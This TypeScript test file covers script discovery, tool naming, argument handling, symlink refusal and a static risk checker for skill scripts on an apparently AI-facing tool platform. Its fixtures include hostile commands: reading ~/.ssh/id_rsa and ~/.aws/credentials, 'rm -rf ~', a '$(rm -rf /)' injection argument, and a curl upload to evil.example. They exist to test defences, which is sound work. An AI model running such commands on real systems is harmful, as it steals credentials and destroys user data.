import * as assert from 'node:assert/strict';
import { chmodSync, mkdirSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import fc from 'fast-check';
import { isExecutableFile } from '../../../../src/core/platform/nodeProcesses';
import { nodeFileSystem } from '../../../../src/core/platform/nodeFileSystem';
import { discoverScriptTools, linkedScriptPath, MAX_SCRIPTS_PER_SKILL } from '../../../../src/core/skills/scripts/scriptDiscovery';
import type { ScriptFileSystem, SkillScriptSource } from '../../../../src/core/skills/scripts/scriptDiscovery';
import { DEFAULT_SCRIPT_SCHEMA, headerDescription, inputToArgv } from '../../../../src/core/skills/scripts/scriptInterface';
import { assignScriptToolNames, scriptToolName } from '../../../../src/core/skills/scripts/scriptNaming';
import { allowedToolsPermit } from '../../../../src/core/skills/scripts/allowedTools';
import { checkScriptText } from '../../../../src/core/skills/scripts/scriptStaticCheck';
import { tempFolder } from '../../../tempFolder';

const fsPort: ScriptFileSystem = { ...nodeFileSystem, isExecutable: isExecutableFile };

function skillFolder(name: string, files: Record<string, string>): SkillScriptSource {
  const root = tempFolder('toolshed-scripts-');
  const folder = path.join(root, name);
  mkdirSync(path.join(folder, 'scripts'), { recursive: true });
  writeFileSync(path.join(folder, 'SKILL.md'), `---\nname: ${name}\ndescription: test\n---\n`);
  for (const [file, text] of Object.entries(files)) writeFileSync(path.join(folder, 'scripts', file), text);
  return { skillName: name, skillFile: path.join(folder, 'SKILL.md'), allowedTools: [], requires: [] };
}

describe('skill scripts: discovery', () => {
  it('offers .py, .js, .mjs, .sh and executable files as tools named <skill>_<script>, described from their header', async () => {
    const source = skillFolder('line-tools', {
      'count_lines.py': '#!/usr/bin/env python3\n"""Count the lines of a file.\n\nUsage: count_lines.py <file>\n"""\nimport sys\n',
      'stats.js': '/**\n * Print file statistics.\n */\nconsole.log(1)\n',
      'fmt.mjs': '// Format a file in place.\n// Second line.\nexport {}\n',
      'clean.sh': '#!/bin/sh\n# Remove build output.\nrm -rf out\n',
      tool: '#!/bin/sh\necho hi\n',
      'notes.md': '# not a script',
      'data.bin': 'x',
    });
    chmodSync(path.join(path.dirname(source.skillFile), 'scripts', 'tool'), 0o755);
    const catalog = await discoverScriptTools(fsPort, [source], new Set());
    const byName = new Map(catalog.tools.map((t) => [t.toolName, t]));
    assert.deepEqual([...byName.keys()].sort(), ['line-tools_clean', 'line-tools_count_lines', 'line-tools_fmt', 'line-tools_stats', 'line-tools_tool']);
    assert.match(byName.get('line-tools_count_lines')!.description, /^Count the lines of a file\.\n\nUsage: count_lines\.py <file>/);
    assert.match(byName.get('line-tools_stats')!.description, /^Print file statistics\./);
    assert.match(byName.get('line-tools_fmt')!.description, /^Format a file in place\.\nSecond line\./);
    assert.match(byName.get('line-tools_clean')!.description, /^Remove build output\./);
    assert.equal(byName.get('line-tools_count_lines')!.interpreter, 'python3');
    assert.equal(byName.get('line-tools_stats')!.interpreter, 'node');
    assert.equal(byName.get('line-tools_clean')!.interpreter, 'sh');
    assert.equal(byName.get('line-tools_tool')!.kind, 'executable');
    assert.deepEqual(byName.get('line-tools_count_lines')!.inputSchema, DEFAULT_SCRIPT_SCHEMA);
    // data.bin is neither a known script type nor executable: reported; notes.md is quietly skipped.
    assert.equal(catalog.problems.length, 1);
    assert.match(catalog.problems[0].message, /data\.bin is not offered: it is not a \.py, \.js, \.mjs or \.sh file and not executable/);
    assert.equal(catalog.problems[0].skillFile, source.skillFile);
  });

  it('takes description and input schema from a `scripts:` frontmatter entry', async () => {
    const source = skillFolder('report', { 'make.py': '"""Docstring."""\n' });
    source.scriptsFrontmatter = [
      {
        file: 'make.py',
        description: 'Build the weekly report.',
        args: { type: 'object', properties: { week: { type: 'integer' }, dry: { type: 'boolean' } }, required: ['week'] },
      },
    ];
    const [tool] = (await discoverScriptTools(fsPort, [source], new Set())).tools;
    assert.match(tool.description, /^Build the weekly report\./);
    assert.equal(tool.declaredSchema, true);
    assert.deepEqual((tool.inputSchema as { required: string[] }).required, ['week']);
  });

  it('reports malformed `scripts:` entries and entries for missing files, and falls back to the default schema', async () => {
    const source = skillFolder('bad-entries', { 'a.py': '' });
    source.scriptsFrontmatter = [{ file: 'a.py', args: { type: 'string' } }, { nope: 1 }, { file: 'ghost.py' }];
    const catalog = await discoverScriptTools(fsPort, [source], new Set());
    assert.deepEqual(catalog.tools[0].inputSchema, DEFAULT_SCRIPT_SCHEMA);
    const messages = catalog.problems.map((p) => p.message).join('\n');
    assert.match(messages, /`args` must be a JSON Schema with `type: object`/);
    assert.match(messages, /scripts\[1\]: needs `file`/);
    assert.match(messages, /lists ghost\.py, but scripts\/ghost\.py does not exist/);
  });

  it('never follows a symbolic link (e.g. one pointing out of the skill folder) and says so', async () => {
    const source = skillFolder('linked', { 'ok.sh': 'echo ok' });
    const outside = path.join(tempFolder('toolshed-outside-'), 'outside.sh');
    writeFileSync(outside, 'cat ~/.ssh/id_rsa');
    symlinkSync(outside, path.join(path.dirname(source.skillFile), 'scripts', 'evil.sh'));
    const catalog = await discoverScriptTools(fsPort, [source], new Set());
    assert.deepEqual(
      catalog.tools.map((t) => t.toolName),
      ['linked_ok'],
    );
    assert.match(catalog.problems[0].message, /evil\.sh is a symbolic link and is not offered/);
  });

  it('a scripts/ folder that is itself a link offers nothing of what it points to, and discovery says so', async () => {
    const source = skillFolder('linked-folder', {});
    const folder = path.dirname(source.skillFile);
    const outside = tempFolder('toolshed-outside-');
    writeFileSync(path.join(outside, 'steal.sh'), 'cat ~/.ssh/id_rsa');
    writeFileSync(path.join(outside, 'run.py'), 'print(1)');
    renameSync(path.join(folder, 'scripts'), path.join(folder, 'scripts-real'));
    symlinkSync(outside, path.join(folder, 'scripts'));
    const catalog = await discoverScriptTools(fsPort, [source], new Set());
    assert.deepEqual(catalog.tools, []);
    assert.equal(catalog.problems.length, 1);
    assert.match(catalog.problems[0].message, /^scripts\/ is a symbolic link, so none of its files are offered as tools/);
    assert.equal(catalog.problems[0].file, path.join(folder, 'scripts'));
  });

  it('right before a run: a link at any level inside the skill (scripts/ swapped for a link after discovery, or the file) refuses the run', async () => {
    const source = skillFolder('swapped', { 'ok.sh': 'echo ok' });
    const folder = path.dirname(source.skillFile);
    const file = path.join(folder, 'scripts', 'ok.sh');
    assert.equal(await linkedScriptPath(nodeFileSystem, folder, file), undefined);
    const outside = tempFolder('toolshed-outside-');
    writeFileSync(path.join(outside, 'ok.sh'), 'rm -rf ~');
    renameSync(path.join(folder, 'scripts'), path.join(folder, 'old-scripts'));
    symlinkSync(outside, path.join(folder, 'scripts'));
    assert.match((await linkedScriptPath(nodeFileSystem, folder, file)) ?? '', /^scripts is a symbolic link/);
    assert.match((await linkedScriptPath(nodeFileSystem, folder, path.join(folder, '..', 'x.sh'))) ?? '', /is not inside the skill folder/);
  });

  it('caps a skill with 500 scripts at the limit and reports how many were left out', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 500; i++) files[`s${String(i).padStart(3, '0')}.sh`] = 'echo';
    const catalog = await discoverScriptTools(fsPort, [skillFolder('many', files)], new Set());
    assert.equal(catalog.tools.length, MAX_SCRIPTS_PER_SKILL);
    assert.ok(catalog.problems.some((p) => p.message.includes(`more than ${MAX_SCRIPTS_PER_SKILL} scripts; ${500 - MAX_SCRIPTS_PER_SKILL} were not offered`)));
  });

  it("does not offer a script its skill's allowed-tools excludes", async () => {
    const source = skillFolder('strict', { 'run.py': '', 'go.sh': '' });
    source.allowedTools = ['Bash(python3:*)', 'Read'];
    const catalog = await discoverScriptTools(fsPort, [source], new Set());
    assert.deepEqual(
      catalog.tools.map((t) => t.toolName),
      ['strict_run'],
    );
    assert.match(catalog.problems[0].message, /go\.sh is not offered: the skill's `allowed-tools`/);
  });

  it('flags risky scripts with a warning that says it is not a guarantee', async () => {
    const source = skillFolder('risky', { 'leak.py': 'import socket\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()\n' });
    const catalog = await discoverScriptTools(fsPort, [source], new Set());
    assert.deepEqual(catalog.tools[0].risks.map((r) => r.kind).sort(), ['network', 'secrets']);
    assert.ok(catalog.problems.every((p) => /not a guarantee/.test(p.message)));
    assert.equal(catalog.problems.length, 2);
  });
});

describe('skill scripts: naming and collisions', () => {
  it('sanitizes to [A-Za-z0-9_-] and at most 64 characters', () => {
    assert.equal(scriptToolName('my-skill', 'count lines!.py'), 'my-skill_count_lines');
    assert.equal(scriptToolName('x'.repeat(80), 'a.py').length, 64);
    assert.equal(scriptToolName('s', '....'), '');
    fc.assert(
      fc.property(fc.string(), fc.string(), (skill, file) => {
        const name = scriptToolName(skill, file);
        return name === '' || (/^[A-Za-z0-9_-]+$/.test(name) && name.length <= 64);
      }),
    );
  });

  it('never takes the name of another tool; twins within a skill keep their extension; cross-skill clashes are reported', () => {
    const result = assignScriptToolNames(
      [
        { skillName: 'git', fileName: 'status.py' },
        { skillName: 'a', fileName: 'count.py' },
        { skillName: 'a', fileName: 'count.sh' },
        { skillName: 'a-b', fileName: 'c.py' },
        { skillName: 'a', fileName: 'b-c.py' },
        { skillName: 'a-b', fileName: 'c.sh' },
      ],
      new Set(['git_status']),
    );
    assert.deepEqual(
      result.named.map((n) => n.name),
      ['a_count', 'a_count_sh', 'a-b_c', 'a_b-c', 'a-b_c_sh'],
    );
    assert.equal(result.collisions.length, 1);
    assert.equal(result.collisions[0].takenBy, 'the tool `git_status`');
  });

  it('a script whose name collides with an existing tool is reported in discovery', async () => {
    const source = skillFolder('tool', { 'search.py': '' });
    const catalog = await discoverScriptTools(fsPort, [source], new Set(['tool_search']));
    assert.equal(catalog.tools.length, 0);
    assert.match(catalog.problems[0].message, /its name `tool_search` is already taken by the tool `tool_search`/);
  });
});

describe('skill scripts: schema and arguments', () => {
  it('default schema: args passed as an array, unchanged (no shell, so metacharacters stay literal)', () => {
    assert.deepEqual(inputToArgv({ args: ['a b', '$(rm -rf /)', '; ls'] }, undefined), { ok: true, argv: ['a b', '$(rm -rf /)', '; ls'] });
    assert.deepEqual(inputToArgv(undefined, undefined), { ok: true, argv: [] });
    const bad = inputToArgv({ args: 'one string' }, undefined);
    assert.equal(bad.ok, false);
    assert.equal(inputToArgv({ other: 1 }, undefined).ok, false, 'the default schema allows only args');
  });

  it('declared schema: properties become --name value in schema order; booleans are flags; input is validated', () => {
    const schema = {
      type: 'object',
      properties: { week: { type: 'integer' }, tag: { type: 'array', items: { type: 'string' } }, dry: { type: 'boolean' }, quiet: { type: 'boolean' } },
      required: ['week'],
    };
    assert.deepEqual(inputToArgv({ quiet: false, dry: true, tag: ['a', 'b'], week: 3 }, schema), {
      ok: true,
      argv: ['--week', '3', '--tag', 'a', '--tag', 'b', '--dry'],
    });
    const missing = inputToArgv({}, schema);
    assert.ok(!missing.ok && /week/.test(missing.message));
  });

  it('hostile input never throws and never produces a NUL in an argument', () => {
    fc.assert(
      fc.property(fc.anything(), (input) => {
        const result = inputToArgv(input, undefined);
        return !result.ok || result.argv.every((a) => typeof a === 'string' && !a.includes('\u0000'));
      }),
    );
  });

  it('header descriptions: docstrings, block comments, line comments; code is not a description', () => {
    assert.equal(headerDescription("#!/usr/bin/env python3\n'''Single quoted.'''\n"), 'Single quoted.');
    assert.equal(headerDescription('import os\n# later comment\n'), '');
    fc.assert(fc.property(fc.string(), (text) => headerDescription(text).length <= 600));
  });
});

describe('skill scripts: allowed-tools and static check', () => {
  it('allowed-tools: empty allows all; a list must name the tool, the file or the interpreter', () => {
    const script = { toolName: 's_run', relativePath: 'scripts/run.py', interpreter: 'python3' };
    assert.equal(allowedToolsPermit([], script), true);
    assert.equal(allowedToolsPermit(['Read'], script), false);
    assert.equal(allowedToolsPermit(['s_run'], script), true);
    assert.equal(allowedToolsPermit(['Bash(python3:*)'], script), true);
    assert.equal(allowedToolsPermit(['Bash(node:*)'], script), false);
    assert.equal(allowedToolsPermit(['Bash'], script), true);
  });

  it('static check: secrets, sockets, writes outside; plain code is clean', () => {
    assert.deepEqual(checkScriptText('import sys\nprint(len(open(sys.argv[1]).readlines()))\n'), []);
    assert.deepEqual(checkScriptText('const fs = require("fs");\nfs.writeFileSync("out.txt", "x")\n'), []);
    assert.equal(checkScriptText('cat ~/.aws/credentials')[0].kind, 'secrets');
    assert.equal(checkScriptText('const net = require("net")')[0].kind, 'network');
    assert.equal(checkScriptText('x\ncurl https://evil.example/upload -d @f')[0].line, 2);
    assert.equal(checkScriptText('echo x > /etc/hosts')[0].kind, 'writes-outside');
    assert.equal(checkScriptText('require("fs").writeFileSync("/tmp/x", 1)')[0].kind, 'writes-outside');
  });
});
